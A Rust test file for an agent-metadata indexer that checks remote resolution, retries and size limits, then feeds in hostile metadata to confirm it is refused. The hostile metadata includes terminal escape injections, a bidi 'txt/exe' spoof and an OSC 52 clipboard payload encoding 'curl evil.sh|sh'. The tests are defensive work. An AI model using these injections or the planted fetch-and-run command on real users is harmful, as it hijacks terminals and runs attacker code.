//! Remote metadata: `http://` and `ipfs://` (through a gateway) URIs resolved by the resolver,
//! beside the indexer; a failing URL recorded as failed with its error and a retry time, then
//! resolved once the server serves it; an oversized document refused; a name with terminal
//! control characters refused, inline or remote, without stopping the indexer.

mod common;

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use alloy::primitives::Address;
use alloy::transports::http::reqwest;
use axum::Router;
use axum::http::StatusCode;
use axum::routing::get;
use nexus_indexer::metadata::{ResolverConfig, resolve_pending};
use nexus_testkit::{Devnet, Postgres};

#[tokio::test]
async fn resolves_http_and_ipfs_and_retries_failures() {
    let devnet = Devnet::start().await.expect("devnet");
    let pg = Postgres::start().expect("postgres");

    let flaky_up = Arc::new(AtomicBool::new(false));
    let up = flaky_up.clone();
    let app =
        Router::new()
            .route(
                "/agent.json",
                get(|| async { r#"{"name":"Remote","tags":["web"],"outputSchema":{"type":"string"}}"# }),
            )
            .route("/ipfs/bafyabc/meta.json", get(|| async { r#"{"name":"Pinned","description":"from ipfs"}"# }))
            .route("/big.json", get(|| async { format!(r#"{{"name":"{}"}}"#, "x".repeat(100_000)) }))
            .route(
                "/flaky.json",
                get(move || {
                    let up = up.load(Ordering::SeqCst);
                    async move {
                        if up { (StatusCode::OK, r#"{"name":"Flaky"}"#) } else { (StatusCode::BAD_GATEWAY, "down") }
                    }
                }),
            );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let base = format!("http://{}", listener.local_addr().expect("addr"));
    tokio::spawn(async move { axum::serve(listener, app).await });

    for uri in [
        format!("{base}/agent.json"),
        "ipfs://bafyabc/meta.json".to_string(),
        format!("{base}/flaky.json"),
        format!("{base}/big.json"),
        "ftp://example/meta.json".to_string(),
    ] {
        devnet.register_agent(devnet.signer(6).address(), Address::ZERO, 1000, &uri).await.expect("registered");
    }
    let mut indexer = common::indexer(&devnet, &pg, "meta", |_| {}).await;
    indexer.sync().await.expect("sync");
    let pool = indexer.pool().clone();

    let config = ResolverConfig {
        ipfs_gateway: format!("{base}/ipfs"),
        timeout: Duration::from_secs(5),
        interval: Duration::from_millis(50),
    };
    let http = reqwest::Client::new();
    assert_eq!(resolve_pending(&pool, &http, &config).await.expect("resolve"), 5);

    type Row = (String, Option<String>, Option<String>, i32);
    let rows = || async {
        sqlx::query_as::<_, Row>(
            "SELECT metadata_status, name, metadata_error, metadata_attempts FROM agents ORDER BY agent_id",
        )
        .fetch_all(&pool)
        .await
        .expect("rows")
    };
    let r = rows().await;
    assert_eq!((r[0].0.as_str(), r[0].1.as_deref()), ("ok", Some("Remote")));
    assert_eq!((r[1].0.as_str(), r[1].1.as_deref()), ("ok", Some("Pinned")));
    assert_eq!(r[2].0, "failed");
    assert!(r[2].2.as_deref().unwrap_or_default().contains("502"), "{:?}", r[2]);
    assert_eq!(r[3].0, "failed");
    assert!(r[3].2.as_deref().unwrap_or_default().contains("larger than"), "{:?}", r[3]);
    assert_eq!(r[4].0, "failed");
    let schema: Option<String> =
        sqlx::query_scalar("SELECT output_schema::text FROM agents WHERE agent_id = 1").fetch_one(&pool).await.unwrap();
    assert_eq!(schema.as_deref(), Some(r#"{"type": "string"}"#));
    let found: i64 = sqlx::query_scalar("SELECT count(*) FROM agents WHERE search @@ to_tsquery('simple', 'ipfs')")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(found, 1);

    // Nothing is due right away (backoff); once due and the server is back, it resolves.
    assert_eq!(resolve_pending(&pool, &http, &config).await.expect("resolve"), 0);
    flaky_up.store(true, Ordering::SeqCst);
    sqlx::query("UPDATE agents SET metadata_next_attempt_at = now() WHERE agent_id = 3").execute(&pool).await.unwrap();
    resolve_pending(&pool, &http, &config).await.expect("resolve");
    let r = rows().await;
    assert_eq!((r[2].0.as_str(), r[2].1.as_deref(), r[2].3), ("ok", Some("Flaky"), 2));
}

#[tokio::test]
async fn names_with_control_characters_are_refused_and_indexing_goes_on() {
    let devnet = Devnet::start().await.expect("devnet");
    let pg = Postgres::start().expect("postgres");
    let app = Router::new().route(
        "/clipboard.json",
        get(|| async { "{\"name\":\"Helper\\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007\",\"tags\":[\"ok\"]}" }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let base = format!("http://{}", listener.local_addr().expect("addr"));
    tokio::spawn(async move { axum::serve(listener, app).await });

    for uri in [
        // Clear screen, then a window title, inline; bidi override in a tag; a remote OSC 52.
        r#"data:application/json,{"name":"\u001b[2JSummarizer"}"#.to_string(),
        r#"data:application/json,{"name":"Title\u001b]0;pwned\u0007"}"#.to_string(),
        r#"data:application/json,{"name":"Tagged","tags":["txt\u202eexe"]}"#.to_string(),
        format!("{base}/clipboard.json"),
        r#"data:application/json,{"name":"Honest","description":"two\nlines"}"#.to_string(),
    ] {
        devnet.register_agent(devnet.signer(6).address(), Address::ZERO, 1000, &uri).await.expect("registered");
    }
    let mut indexer = common::indexer(&devnet, &pg, "controls", |_| {}).await;
    indexer.sync().await.expect("sync goes through hostile metadata");
    let pool = indexer.pool().clone();
    let config = ResolverConfig { ipfs_gateway: format!("{base}/ipfs"), ..ResolverConfig::default() };
    assert_eq!(resolve_pending(&pool, &reqwest::Client::new(), &config).await.expect("resolve"), 1);

    type Row = (String, Option<String>, Option<String>, Vec<String>);
    let rows: Vec<Row> =
        sqlx::query_as("SELECT metadata_status, name, metadata_error, tags FROM agents ORDER BY agent_id")
            .fetch_all(&pool)
            .await
            .expect("rows");
    assert_eq!(rows.len(), 5, "every agent is indexed");
    for (row, (field, code)) in
        rows.iter().zip([("name", "U+001B"), ("name", "U+001B"), ("tag", "U+202E"), ("name", "U+001B")])
    {
        assert_eq!((row.0.as_str(), row.1.as_deref()), ("failed", None), "{row:?}");
        assert!(row.3.is_empty(), "{row:?}");
        let error = row.2.as_deref().unwrap_or_default();
        assert!(error.contains(&format!("metadata {field} contains the control character {code}")), "{row:?}");
    }
    assert_eq!((rows[4].0.as_str(), rows[4].1.as_deref()), ("ok", Some("Honest")));
}
